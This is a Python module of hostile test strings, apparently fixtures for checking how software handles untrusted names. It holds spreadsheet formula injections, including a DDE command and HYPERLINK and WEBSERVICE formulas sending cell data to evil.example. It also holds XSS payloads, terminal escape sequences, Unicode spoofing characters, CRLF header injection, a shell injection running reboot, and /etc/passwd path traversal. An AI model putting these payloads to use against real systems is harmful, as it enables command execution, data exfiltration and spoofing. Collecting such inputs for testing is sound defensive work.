"""Hostile texts by name: what a stranger may put into a server name, a protocol name, a certificate or a file name."""

FORMULA = b"=cmd|' /C calc'!A0"

FORMULAS = {
    "formula equals": b"=1+1",
    "formula plus": b"+1+1",
    "formula minus": b"-1+1",
    "formula at": b"@SUM(1,1)",
    "formula tab": b"\t=1+1",
    "formula cr": b"\r=1+1",
    "formula lf": b"\n=1+1",
    "formula blank": b" =1+1",
    "formula full-width equals": "\uff1d1+1".encode(),
    "formula full-width plus": "\uff0b1+1".encode(),
    "formula full-width minus": "\uff0d1+1".encode(),
    "formula full-width at": "\uff20SUM(1,1)".encode(),
    "formula dde": FORMULA,
    "formula hyperlink": b'=HYPERLINK("http://evil.example/?"&A1,"click")',
    "formula webservice": b'=WEBSERVICE("http://evil.example/")',
    # Where a list separator of the reader's country is a semicolon, as in most of Europe.
    "formula after semicolon": b"a;" + FORMULA + b";b",
    "formula after semicolon and quote": b'a;"' + FORMULA + b";b",
    "formula after quote and comma": b'a","' + FORMULA,
    "formula after line": b"a\r\n" + FORMULA,
    "formula after bom": "\ufeff=1+1".encode(),
}

MARKUP = {
    "script": b"<script>alert(1)</script>",
    "end of script": b"</script><script>alert(1)</script>",
    "end of style": b"</style></title></textarea><img src=x onerror=alert(1)>",
    "attribute": b'"><img src=x onerror=alert(1)>',
    "attribute, single": b"' onmouseover='alert(1)' x='",
    "comment": b"<!--<script>",
    "cdata": b"]]><svg/onload=alert(1)>",
    "template": b"{{constructor.constructor('alert(1)')()}}${alert(1)}",
    "link": b"javascript:alert(1)//http://evil.example/",
    "entity": b"&lt;img src=x&gt;&#60;b&#62;&amp;",
    "prototype": b"__proto__",
    "constructor": b"constructor",
}

TERMINAL = {
    "csi clear": b"\x1b[2J\x1b[H",
    "csi colour": b"\x1b[31mred",
    "csi mode": b"\x1b[?1049h\x1b[?25l\x1b[?1000h",
    "csi report": b"\x1b[6n\x1b[c",
    "osc title": b"\x1b]0;owned\x07",
    "osc link": b"\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "osc clipboard": b"\x1b]52;c;ZXZpbA==\x07",
    "dcs": b"\x1bP$q\"p\x1b\\",
    "apc": b"\x1b_Gf=24;AAAA\x1b\\",
    "reset": b"\x1bc",
    "c1 csi, utf-8": "\u009b2J\u009d0;owned\u009c".encode(),
    "c1 csi, raw": b"\x9b2J\x9d0;owned\x9c",
    "c1 all, raw": bytes(range(0x80, 0xa0)),
    "c0 all": bytes(range(0x20)) + b"\x7f",
    "backspace": b"good\x08\x08\x08\x08evil",
    "shift out": b"\x0e\x1b(0lqk\x0f",
}

UNICODE = {
    "bidi override": "\u202emoc.live\u202c".encode(),
    "bidi isolates": "\u2066a\u2067b\u2068c\u2069".encode(),
    "bidi marks": "\u200ea\u200fb\u061c".encode(),
    "zero width": "g\u200bo\u200cog\u200dle\u2060\ufeff".encode(),
    "soft hyphen": "goo\u00adgle".encode(),
    "fillers": "a\u3164b\u115fc\uffa0d\u034f".encode(),
    "variation selectors": "a\ufe0fb\U000e0100".encode(),
    "tags": "a\U000e0041\U000e007f".encode(),
    "line separators": "a\u2028b\u2029c\u0085d".encode(),
    "noncharacters": "a\ufffeb\uffffc\U0010ffff".encode(),
    "combining": ("z" + "\u0301" * 40).encode(),
    "wide": "漢字😀ｗｉｄｅ".encode(),
    "right to left": "שלום.example".encode(),
    "invalid": b"a\xff\xfe\xc0\x80\xf8\x88\x80\x80\x80b",
    "overlong": b"\xc0\xae\xe0\x80\xbc\xf0\x80\x80\xbcscript",
    "surrogates": b"\xed\xa0\x80\xed\xb0\x80",
    "above unicode": b"\xf4\x90\x80\x80",
    "cut short": b"a\xe2\x82",
}

TEXT = {
    "nul": b"a\x00b",
    "nul first": b"\x00www.example",
    "cr lf": b"a\r\nX-Injected: 1\r\n\r\nb",
    "quotes": b"\"a\"\"b\"'c'",
    "one quote": b'"',
    "backslashes": b"\\x41\\\\n\\u0041\\",
    "commas": b",,a,b,,",
    "semicolons": b";;a;b;;",
    "percent": b"%n%n%s%x%1000000d{}{0}{:n}",
    "json": b'","outcome":"complete","x":"',
    "json end": b'"}\n{"stream":0}',
    "shell": b"$(reboot)`reboot`;reboot|reboot&",
    "path": b"../../../../etc/passwd",
    "blanks": b"  a  ",
    "blank": b" ",
    "long": b"w" * 65000,
    "long, controls": b"\x1b" * 65000,
}

ALL = {**FORMULAS, **MARKUP, **TERMINAL, **UNICODE, **TEXT}
